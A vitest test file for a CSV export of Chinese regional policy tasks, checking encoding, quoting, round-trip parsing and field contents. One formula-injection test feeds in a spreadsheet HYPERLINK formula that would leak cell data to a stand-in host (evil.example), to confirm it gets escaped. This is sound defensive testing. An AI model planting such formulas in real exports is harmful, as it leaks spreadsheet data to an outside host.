import { describe, expect, test } from 'vitest';
import { CATEGORIES } from '../../src/domain/categories.ts';
import { NO_FILTERS } from '../../src/domain/filters.ts';
import { csvField, toCsv } from '../../src/export/csv.ts';
import { tasksCsv } from '../../src/export/tasks-csv.ts';
import { filterTasks } from '../../src/joins/filter-tasks.ts';
import { tableRows } from '../../src/joins/table-rows.ts';
import { shippedAtlas } from '../joins/fixtures.ts';
import { parseCsv } from './rfc4180.ts';

const { table } = shippedAtlas();
const allRows = () => tableRows(table, filterTasks(table, NO_FILTERS), null, false);
const bodyOf = (csv: string) => parseCsv(csv.replace(/^\ufeff/, ''));

describe('CSV encoding', () => {
  test('starts with a BOM: EF BB BF once encoded as UTF-8', () => {
    const bytes = new TextEncoder().encode(toCsv([['地区'], ['洋县']]));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3, 9))).toBe('地区');
  });

  test('records end in CRLF; commas, quotes and line breaks are quoted', () => {
    expect(toCsv([['a', 'b'], ['c', 'd']])).toBe('\ufeffa,b\r\nc,d\r\n');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('cr\r\nlf')).toBe('"cr\r\nlf"');
    expect(csvField('平常，中文逗号')).toBe('平常，中文逗号');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
  });

  test('cells that a spreadsheet would run as a formula get a leading apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csvField('+1+2')).toBe("'+1+2");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    // Only at the start, and numbers we write ourselves are numbers.
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-3)).toBe('-3');
  });

  test('what we write, an RFC 4180 reader reads back field for field', () => {
    const records = [
      ['plain', '带,逗号', 'with "quotes"', 'multi\r\nline', 'lf\nonly', ''],
      ['=1+1', '中文', '"', ',', '\r\n', '@x'],
    ];
    expect(bodyOf(toCsv(records))).toEqual(records.map((r) => r.map((f) => (/^[=+\-@\t\r]/.test(f) ? `'${f}` : f))));
  });
});

describe('tasks as CSV', () => {
  test('a header and one record per task, 16 fields each, in the order given', () => {
    const rows = allRows();
    const parsed = bodyOf(tasksCsv(table, rows));
    expect(parsed).toHaveLength(rows.length + 1);
    expect(parsed[0]).toEqual(['文件编号', '文件标题', '发文单位', '文件层级', '任务编号', '序号', '章节', '标题', '类别', '责任部门', '地区', '量化目标（数值 单位 期限；†为按年度推定）', '任务原文', '指标（名称 编号）', '指标值（按指标单位：数值 单位 期限）', '落实的上级任务编号']);
    expect(parsed.every((r) => r.length === 16)).toBe(true);
    expect(parsed.slice(1).map((r) => r[4])).toEqual(table.tasks.map((t) => t.id));
    expect(bodyOf(tasksCsv(table, rows, 'en'))[0]![0]).toBe('Document ID');
  });

  test('the records for a filter are exactly the tasks it keeps: category hukou', () => {
    const kept = filterTasks(table, { ...NO_FILTERS, categories: ['hukou'] });
    const parsed = bodyOf(tasksCsv(table, tableRows(table, kept, null, false))).slice(1);
    const hukou = table.tasks.filter((t) => t.categories.includes('hukou'));
    expect(hukou.length).toBe(10);
    expect(parsed.map((r) => r[4])).toEqual(hukou.map((t) => t.id));
    const label = CATEGORIES.find((c) => c.id === 'hukou')!.zh;
    expect(parsed.every((r) => r[8]!.includes(`${label} (hukou)`))).toBe(true);
  });

  test('fields read back equal the task: text, title, departments, places with codes, targets', () => {
    const parsed = bodyOf(tasksCsv(table, allRows())).slice(1);
    table.tasks.forEach((task, k) => {
      const r = parsed[k]!;
      const doc = table.documents[table.docOf[k]!]!.document;
      expect(r[0]).toBe(doc.id);
      expect(r[1]).toBe(doc.title);
      expect(r[3]).toBe(doc.level);
      expect(r[5]).toBe(task.label);
      expect(r[7]).toBe(task.title.trim());
      expect(r[9]).toBe(task.departments.join('; '));
      expect(r[12]).toBe(/^[=+\-@\t\r]/.test(task.text) ? `'${task.text}` : task.text);
      expect(r[10]!.split('; ').filter(Boolean)).toHaveLength(task.places.length);
      expect(r[11]!.split('; ').filter(Boolean)).toHaveLength(task.targets.length);
    });
    // Multi-line texts survive the quoting.
    expect(table.tasks.some((t) => /[\n,"]/.test(t.text))).toBe(true);
  });

  test('indicators: the name and id, and the value in the indicator’s unit (万人次 → 人次), one per measured target', () => {
    const national = table.tasks.findIndex((t) => t.targets.some((x) => x.quantity === '600万人次以上'));
    const [record] = bodyOf(tasksCsv(table, [national])).slice(1);
    const ids = record![13]!.split('; ');
    expect(ids).toContain('农民工补贴性培训 (migrant-worker-training)');
    expect(record![14]!.split('; ')[ids.indexOf('农民工补贴性培训 (migrant-worker-training)')]).toBe('≥6000000 人次 2022†'); // 2022: the year of the annual plan
    const parsed = bodyOf(tasksCsv(table, allRows())).slice(1);
    table.tasks.forEach((task, k) => {
      const n = task.targets.filter((x) => x.indicator).length;
      expect(parsed[k]![13]!.split('; ').filter(Boolean)).toHaveLength(n);
      expect(parsed[k]![14]!.split('; ').filter(Boolean)).toHaveLength(n);
    });
  });

  test('洋县: its place code, and raw target values with the inferred year marked', () => {
    const k = table.tasks.findIndex((t) => t.targets.some((x) => x.quantity.includes('8635')));
    const [record] = bodyOf(tasksCsv(table, [k])).slice(1);
    expect(record![11]).toContain('8635 座 2023†');
    const fuping = table.tasks.findIndex((t) => t.id === 'shaanxi-2023-key-tasks/9');
    expect(bodyOf(tasksCsv(table, [fuping]))[1]![10]).toContain('富平县 (610528); 三原县 (610422); 岐山县 (610323)');
    // A town: its own nine-digit code, not its county's.
    const towns = table.tasks.findIndex((t) => t.id === 'yangxian-2023-work-points/7');
    expect(bodyOf(tasksCsv(table, [towns]))[1]![10]).toContain('洋县华阳镇 (610723114)');
    const composite = table.tasks.findIndex((t) => t.places.some((p) => p.regionId === 'xian-metro'));
    expect(bodyOf(tasksCsv(table, [composite]))[1]![10]).toContain('(xian-metro)');
  });
});
